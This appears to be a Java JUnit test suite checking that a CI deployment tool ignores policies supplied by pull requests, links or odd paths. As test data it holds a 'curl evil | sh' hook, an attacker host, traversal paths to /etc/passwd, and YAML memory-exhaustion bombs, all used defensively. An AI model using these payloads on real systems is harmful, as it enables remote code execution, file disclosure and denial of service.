package io.github.flakeferry;

import static io.github.flakeferry.AttackedRun.HOST_KEY;
import static io.github.flakeferry.AttackedRun.MAIN;
import static io.github.flakeferry.AttackedRun.POLICY;
import static io.github.flakeferry.AttackedRun.files;
import static io.github.flakeferry.AttackedRun.pullRequest;
import static io.github.flakeferry.AttackedRun.push;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.flakeferry.fleet.PolicyReader;
import io.github.flakeferry.model.Failure;
import io.github.flakeferry.model.FailureReason;
import io.github.flakeferry.model.GitRevision;
import io.github.flakeferry.pipeline.Plan;
import io.github.flakeferry.source.HostileRepository.Entry;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Attempts to have another policy count than the default branch's. */
final class WaysAroundThePolicyTest extends WaysAround {
  private List<Plan.Pool> pools;

  @BeforeEach
  void lookAtWhatCounts() throws IOException {
    var harmless = pullRequest("opened", 8, run.head(8));
    pools = ((Plan.Preview) run.plan("pull_request", harmless)).pools();
    assertThat(pools).hasSize(1);
  }

  /** What somebody would like the policy to be; each is a policy that can be read. */
  static Stream<Arguments> wishes() {
    return Stream.of(
        Arguments.of("another host", POLICY.replace("lab-1.lan", "mallory.example")),
        Arguments.of("another host key", POLICY.replace("AAAAIJ3rXxKf", "AAAAIJr2wEvH")),
        Arguments.of("a hook", POLICY.replace("lease: 24h", "health: { command: curl evil | sh }")),
        Arguments.of("no end", POLICY.replace(", lease: 24h", "")),
        Arguments.of(
            "another board",
            POLICY.replaceFirst(
                "\n",
                "\n  x: { host: mallory.example, host-key: %s, tags: [preview] }\n"
                    .formatted(HOST_KEY))),
        Arguments.of("the oldest", POLICY.replace("lease: 24h", "when-busy: take-oldest")),
        Arguments.of(
            "another system", POLICY.replace("lab-1.lan,", "lab-1.lan, configuration: x,")));
  }

  @Attempt(
      to = "a policy of its own, with other boards, keys, checks or systems",
      got = "the default branch's policy")
  @ParameterizedTest(name = "{0}")
  @MethodSource("wishes")
  void aPullRequestsOwnPolicy(String what, String policy) throws IOException {
    for (String place : new String[] {"flakeferry.yml", ".github/flakeferry.yml"}) {
      GitRevision head = pushed("refs/pull/7/head", place, policy);
      assertPolicyOfMain(run.plan("pull_request", pullRequest("opened", 7, head)), head);
    }
  }

  @Attempt(
      to = "the same on the branch that it is to be merged into, called the default one",
      got = "the default branch's policy")
  @ParameterizedTest(name = "{0}")
  @MethodSource("wishes")
  void aBaseBranchOfOnesOwn(String what, String policy) throws IOException {
    GitRevision base = pushed("refs/heads/mallory", "flakeferry.yml", policy);
    GitRevision head = run.repository.push("refs/pull/7/head", "refs/heads/mallory", files("new"));
    var payload = pullRequest("opened", 7, head);
    payload.withObject("/pull_request/base").put("ref", "mallory").put("sha", base.value());
    payload.withObject("/pull_request/base/repo").put("default_branch", "mallory");
    run.with("GITHUB_BASE_REF", "mallory").with("GITHUB_SHA", base.value());
    assertPolicyOfMain(run.plan("pull_request", payload), head);
  }

  @Attempt(
      to = "a branch that fits a pattern, with a policy that names the branch",
      got = "refused")
  @Test
  void aBranchThatFitsAPatternAndNamesItself() throws IOException {
    String policy = POLICY.replace("\"try/**\"", "\"try/it\"");
    GitRevision tip = pushed("refs/heads/try/it", "flakeferry.yml", policy);
    var done = run.run("push", push("refs/heads/try/it", tip));
    assertThat(done.verdict().reason()).as(done.log()).contains(FailureReason.REFUSED);
  }

  /** A cache to publish to would want a key, before the flake is looked at, which is not there. */
  @Attempt(to = "a cache of its own to publish to", got = "the default branch's policy")
  @Test
  void aCacheOfOnesOwn() throws IOException {
    String policy = POLICY + "caches: [{ url: https://mallory.example, for: pull-requests }]\n";
    GitRevision tip = pushed("refs/pull/7/head", "flakeferry.yml", policy);
    var done = run.run("pull_request", pullRequest("opened", 7, tip));
    assertThat(done.verdict().reason()).as(done.log()).contains(FailureReason.EVALUATION_FAILED);
    assertThat(done.log()).contains("There is no flake.nix").doesNotContain("mallory");
  }

  @Attempt(
      to = "a policy in the clone that the workflow made before",
      got = "the default branch's policy")
  @Test
  void aCloneThatTheWorkflowMadeBefore() throws IOException {
    Path workspace = Files.createDirectories(folder.resolve("workspace/.github"));
    String wide = POLICY.replace("lab-1.lan", "mallory.example");
    Files.writeString(workspace.resolve("flakeferry.yml"), wide);
    Files.writeString(workspace.resolveSibling("flakeferry.yml"), wide);
    GitRevision head = run.head(7);
    run.with("GITHUB_WORKSPACE", workspace.getParent().toString());
    assertPolicyOfMain(run.plan("pull_request", pullRequest("opened", 7, head)), head);
  }

  private GitRevision pushed(String ref, String place, String policy) throws IOException {
    assertThat(PolicyReader.read("f", policy)).isNotEqualTo(PolicyReader.read("f", POLICY));
    var files = files("of " + ref);
    files.put(place, Entry.text(policy));
    return run.repository.push(ref, MAIN, files);
  }

  /** Word for word what a head gets that changes nothing of it. */
  private void assertPolicyOfMain(Plan plan, GitRevision head) {
    assertThat(plan)
        .isInstanceOfSatisfying(
            Plan.Preview.class,
            preview -> {
              assertThat(preview.source().commit()).isEqualTo(head);
              assertThat(preview.pools()).isEqualTo(pools);
            });
  }

  static Stream<Arguments> linked() {
    Entry policy = Entry.text(POLICY);
    return Stream.of(
        Arguments.of(
            "to a file", Map.of("flakeferry.yml", new Entry.Link("x.yml"), "x.yml", policy)),
        Arguments.of("off the checkout", Map.of("flakeferry.yml", new Entry.Link("/etc/passwd"))),
        Arguments.of(
            "for the folder", Map.of(".github", new Entry.Link("x"), "x/flakeferry.yml", policy)),
        Arguments.of(
            "a submodule",
            Map.of(
                ".github",
                new Entry.Module(new GitRevision("0123456789abcdef0123456789abcdef01234567")))));
  }

  @Attempt(to = "a link or a submodule in place of the policy", got = "refused: no policy there")
  @ParameterizedTest(name = "{0}")
  @MethodSource("linked")
  void aLinkInPlaceOfThePolicy(String what, Map<String, Entry> files) throws IOException {
    GitRevision tip = run.repository.push(MAIN, files);
    Failure failure = refusedPolicy(tip);
    assertThat(failure.problem()).contains("there is no flakeferry.yml");
  }

  @Attempt(
      to = "a path for the policy that leads out of the repository",
      got = "refused: no policy there")
  @ParameterizedTest
  @ValueSource(
      strings = {"../../etc/passwd", "/etc/passwd", "/", ".git/config", "note/..", "a//b", "."})
  void aPathThatLeadsElsewhere(String path) throws IOException {
    run.configInput(path);
    assertThat(refusedPolicy(run.main).problem()).contains("there is no " + path);
  }

  static Stream<Arguments> bombs() {
    var laughs = new StringBuilder("a0: &a0 [lol]\n");
    for (int i = 1; i < 40; i++) {
      laughs.append("a%d: &a%d [*a%d, *a%d]%n".formatted(i, i, i - 1, i - 1));
    }
    return Stream.of(
        Arguments.of("aliases", laughs.toString()),
        Arguments.of("depth", "[".repeat(500_000)),
        Arguments.of("flow", "{a: ".repeat(100_000)),
        Arguments.of("length", POLICY + "# long\n".repeat(10_000_000)));
  }

  @Attempt(to = "a policy that unfolds to more than memory holds", got = "refused as faulty")
  @ParameterizedTest(name = "{0}")
  @MethodSource("bombs")
  void aFileThatIsMoreThanItLooks(String what, String policy) throws IOException {
    refusedPolicy(run.repository.push(MAIN, Map.of("flakeferry.yml", Entry.text(policy))));
  }

  private Failure refusedPolicy(GitRevision tip) {
    Failure failure = catchThrowableOfType(Failure.class, () -> run.plan("push", push(MAIN, tip)));
    assertThat(failure.reason()).isEqualTo(FailureReason.CONFIG_INVALID);
    return failure;
  }

  @Attempt(
      to = "inputs that ask for more boards and environments than the policy gives",
      got = "nothing more")
  @Test
  void inputsThatAskForMore() throws IOException {
    GitRevision head = run.head(7);
    run.boardsInput("prod-1 | lab-1");
    assertPolicyOfMain(run.plan("pull_request", pullRequest("opened", 7, head)), head);
    run.boardsInput("prod-1");
    assertThat(run.plan("pull_request", pullRequest("opened", 7, head)))
        .isInstanceOf(Plan.Nothing.class);
    run.boardsInput("**").environmentInput("production");
    assertThat(run.plan("pull_request", pullRequest("opened", 7, head)))
        .isInstanceOf(Plan.Nothing.class);
  }
}
